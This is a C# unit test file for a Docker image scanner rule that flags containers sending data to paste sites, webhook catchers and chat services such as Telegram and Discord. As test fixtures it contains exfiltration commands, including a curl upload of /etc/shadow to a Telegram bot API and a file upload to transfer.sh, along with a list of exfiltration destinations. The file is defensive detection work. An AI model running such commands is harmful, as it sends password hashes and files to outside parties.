using DockerScan.Core.Findings;

namespace DockerScan.Scanners.Tests.Sandbox.Analysis.Rules;

public sealed class DataLeavingRuleTests
{
    [Theory]
    [InlineData("webhook.site", "POST", "drop", Severity.High, "The image sends data to a place where anybody leaves files: webhook.site")]
    [InlineData("x1.oast.fun", "PUT", "drop", Severity.High, "The image sends data to a place where anybody leaves files: x1.oast.fun")]
    [InlineData("pastebin.com", "GET", "drop", Severity.Medium, "The image contacts a place where anybody leaves and fetches files: pastebin.com")]
    [InlineData("api.telegram.org", "POST", "hook", Severity.Medium, "The image sends a message to a chat service: api.telegram.org")]
    [InlineData("discord.com", "GET", "hook", Severity.Medium, "The image contacts a chat service: discord.com")]
    public void Find_HttpToANamedPlace_IsJudgedByWhatItDoes(string domain, string method, string id, Severity severity, string title)
    {
        var found = Only(Start().Connect(1, "198.18.0.9", 80, domain, "http", $"{method} /", details: new() { ["method"] = method, ["path"] = "/" }));

        Assert.Equal((id, severity, title, domain), (found.Id, found.Severity, found.Title, found.Location));
        Assert.Contains($"/app (pid 1, uid 0): tcp to {domain}", found.Evidence, StringComparison.Ordinal);
        Assert.NotNull(found.RiskReason);
    }

    // A shell that writes into a connection to termbin is read by no protocol.
    [Fact]
    public void Find_BytesOfNoProtocolToADrop_AreSentData()
        => Assert.Equal(Severity.High, Only(Start().Connect(1, "198.18.0.9", 9999, "termbin.com", "unknown", "bytes", bytes: "root:x:0:0")).Severity);

    [Theory]
    [InlineData("pastebin.com")]
    [InlineData("api.telegram.org")]
    public void Find_OnlyTheName_IsLow(string domain) => Assert.Equal(Severity.Low, Only(Start().Dns(domain)).Severity);

    [Theory]
    [InlineData("notpastebin.com")]
    [InlineData("pastebin.com.example")]
    [InlineData("docs.slack.com")]
    public void Find_AnotherName_IsAnOrdinaryContact(string domain)
        => Assert.Equal("public", Only(Start().Connect(1, "198.18.0.9", 443, domain, "tls", "TLS")).Id);

    [Fact]
    public void Find_CommandAndItsContact_AreOneFinding()
    {
        var found = Only(Start().Process(7, "/usr/bin/curl", "curl -F document=@/etc/shadow https://api.telegram.org/bot1:x/sendDocument").Connect(7, "198.18.0.9", 443, "api.telegram.org", "tls", "TLS"));

        Assert.Equal(("leak.file-to-hook", Severity.High, "api.telegram.org"), (found.Id, found.Severity, found.Location));
        Assert.Contains("document=@/etc/shadow", found.Evidence, StringComparison.Ordinal);
        Assert.Contains("tcp to api.telegram.org", found.Evidence, StringComparison.Ordinal);
    }

    [Fact]
    public void Find_OneProcessTellsAndAnotherContacts_AreTwo()
        => Assert.Equal(["hook", "leak.to-paste"], All(Start().Process(7, "/usr/bin/curl", "curl -T /tmp/x https://transfer.sh/x").Process(8, "/bot").Connect(8, "198.18.0.9", 443, "discord.com", "tls", "TLS")).Select(each => each.Id).Order());

    private static RecordBuilder Start() => new RecordBuilder().Process(1, "/app");

    private static IReadOnlyList<FindingDraft> All(RecordBuilder record) => TestBehavior.Findings(record, "network.external-contact");

    private static FindingDraft Only(RecordBuilder record) => Assert.Single(All(record));
}
